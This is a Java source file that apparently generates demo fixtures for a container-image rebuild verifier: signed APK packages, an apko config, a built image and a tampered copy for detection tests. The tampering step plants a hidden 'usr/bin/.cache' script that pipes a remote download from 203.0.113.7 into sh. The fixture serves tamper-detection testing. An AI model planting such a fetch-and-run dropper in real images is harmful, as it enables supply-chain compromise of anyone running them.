package dev.bitproof.cli.commands;

import com.fasterxml.jackson.databind.node.ArrayNode;
import dev.bitproof.apk.ApkPackage;
import dev.bitproof.rebuild.BuildRequest;
import dev.bitproof.rebuild.BuildResult;
import dev.bitproof.rebuild.Rebuild;
import dev.bitproof.oci.ImageReference;
import dev.bitproof.oci.transport.ImageDestination;
import dev.bitproof.oci.transport.TransportOptions;
import dev.bitproof.oci.transport.Transports;
import dev.bitproof.testing.ApkFixtures;
import dev.bitproof.testing.TestLayouts;
import dev.bitproof.verify.ApkoRebuilder;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Comparator;
import java.util.List;
import java.util.Optional;

/**
 * Writes {@code testdata/demo}: two tiny packages per arch signed with a fresh demo key, signed APKINDEXes, an
 * apko.yaml, the lock file our build resolves for it, the image our build makes from them ("published"), and a
 * tampered copy of that image. The private key is thrown away: nothing can sign for the demo key again.
 */
final class DemoFixtures {
  static final String KEY = "bitproof-demo.rsa.pub";
  static final List<String> ARCHS = List.of("x86_64", "aarch64");
  static final long BUILDDATE = 1_700_000_000L;

  private DemoFixtures() {}

  static void generate(Path demo) throws IOException {
    if (Files.exists(demo)) {
      try (var s = Files.walk(demo)) {
        for (Path p : (Iterable<Path>) s.sorted(Comparator.reverseOrder())::iterator) {
          if (!p.equals(demo) && !p.getFileName().toString().equals("README.md")) {
            Files.delete(p);
          }
        }
      }
    }
    Files.createDirectories(demo);
    ApkFixtures.TestKey key = ApkFixtures.key(KEY);
    key.writePublic(Files.createDirectories(demo.resolve("keys")));
    for (String arch : ARCHS) {
      Path dir = Files.createDirectories(demo.resolve("packages").resolve(arch));
      byte[] base = new ApkFixtures.Apk("demo-baselayout", "1.0.0-r0", arch)
          .set("origin", "demo-baselayout").set("builddate", String.valueOf(BUILDDATE))
          .entry(ApkFixtures.Entry.dir("etc"))
          .file("etc/os-release", "NAME=\"bitproof demo\"\nID=bitproof-demo\nVERSION_ID=1.0\n")
          .file("etc/motd", "This image was rebuilt and verified by bitproof.\n")
          .signedBy(key).build();
      byte[] hello = new ApkFixtures.Apk("demo-hello", "1.0.0-r0", arch)
          .set("origin", "demo-hello").set("builddate", String.valueOf(BUILDDATE)).depend("demo-baselayout")
          .entry(ApkFixtures.Entry.dir("usr")).entry(ApkFixtures.Entry.dir("usr/bin"))
          .file("usr/bin/hello", "#!/bin/sh\ncat /etc/motd\n")
          .signedBy(key).build();
      Files.write(dir.resolve("demo-baselayout-1.0.0-r0.apk"), base);
      Files.write(dir.resolve("demo-hello-1.0.0-r0.apk"), hello);
      String index = ApkFixtures.stanza(base, ApkPackage.read(base, "base")) + "\n"
          + ApkFixtures.stanza(hello, ApkPackage.read(hello, "hello")) + "\n";
      Files.write(dir.resolve("APKINDEX.tar.gz"), ApkFixtures.index(index, key, "RSA256"));
    }
    Files.writeString(demo.resolve("apko.yaml"), """
        contents:
          keyring:
            - ./keys/bitproof-demo.rsa.pub
          repositories:
            - ./packages
          packages:
            - demo-hello

        entrypoint:
          command: /usr/bin/hello

        environment:
          GREETING: hello

        archs:
          - x86_64
          - aarch64
        """, StandardCharsets.UTF_8);
    BuildRequest req = BuildRequest.of(demo.resolve("apko.yaml"), demo).withAnnotations(java.util.Map.of(
        "org.opencontainers.image.title", "bitproof demo", "org.opencontainers.image.vendor", "bitproof"));
    BuildResult built = Rebuild.run(req);
    Files.write(demo.resolve("apko.lock.json"), built.lock().toBytes());
    ImageReference published = ImageReference.parse("oci:" + demo.resolve("published"));
    try (ImageDestination d = Transports.destination(published, TransportOptions.defaults())) {
      built.writeTo(d, Optional.empty());
    }
    // the same image with a file slipped in and an environment variable changed
    TestLayouts.rewrite(demo.resolve("published"), demo.resolve("published-tampered"), (arch, tar) -> {
      try {
        return arch.equals("amd64") ? TestLayouts.insertFile(tar, TestLayouts.endOfEntries(tar), "usr/bin/.cache",
            "#!/bin/sh\ncurl -s http://203.0.113.7/x | sh\n".getBytes(StandardCharsets.UTF_8)) : null;
      } catch (IOException e) {
        throw new java.io.UncheckedIOException(e);
      }
    }, cfg -> {
      ArrayNode env = (ArrayNode) cfg.get("config").get("Env");
      for (int i = 0; i < env.size(); i++) {
        if (env.get(i).asText().startsWith("GREETING=")) {
          env.set(i, env.textNode("GREETING=pwned"));
        }
      }
    }, false);
  }
}
